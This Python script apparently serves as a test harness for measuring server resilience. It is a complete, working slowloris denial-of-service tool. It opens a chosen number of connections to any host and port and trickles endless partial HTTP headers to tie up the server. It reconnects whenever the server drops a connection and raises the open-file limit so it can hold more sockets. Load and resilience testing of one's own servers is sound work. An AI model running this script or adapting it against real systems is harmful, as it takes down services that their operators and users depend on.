"""A slow-header flood, run as its own process: ``python slowloris.py HOST PORT COUNT``.

Opens COUNT connections, each sending a request head one header line per second and never
finishing it; a connection the server closes is opened again (after 0.1 s), as the usual
tools do. Prints ``READY <open>`` once the first round is connected, then on each line read
from stdin prints ``STATS <open> <closed_by_server> <refused>``; stdin at its end stops it.
"""

from __future__ import annotations

import asyncio
import os
import resource
import sys


class Flood:
    def __init__(self, host: str, port: int, count: int) -> None:
        self.host, self.port, self.count = host, port, count
        self.open = 0
        self.closed = 0
        self.refused = 0

    async def one(self) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                self.refused += 1
                await asyncio.sleep(0.1)
                continue
            self.open += 1
            try:
                writer.write(b"GET /api/status HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                n = 0
                while not reader.at_eof():
                    n += 1
                    writer.write(b"X-Slow-%d: 1\r\n" % n)
                    await writer.drain()
                    try:
                        await asyncio.wait_for(reader.read(1024), 1.0)
                    except TimeoutError:
                        continue
            except OSError:
                pass
            finally:
                self.open -= 1
                self.closed += 1
                writer.close()
            await asyncio.sleep(0.1)

    async def run(self) -> None:
        self.tasks = [asyncio.create_task(self.one()) for _ in range(self.count)]
        for _ in range(200):
            if self.open + self.closed + self.refused >= self.count:
                break
            await asyncio.sleep(0.05)
        print("READY", self.open, flush=True)
        loop = asyncio.get_running_loop()
        while await loop.run_in_executor(None, sys.stdin.readline):
            print("STATS", self.open, self.closed, self.refused, flush=True)
        # Done: leave at once, the system closes every socket (a graceful cancel of a thousand
        # reconnecting tasks can take longer than the test).
        os._exit(0)


def main() -> None:
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))
    asyncio.run(Flood(host, port, count).run())


if __name__ == "__main__":
    main()
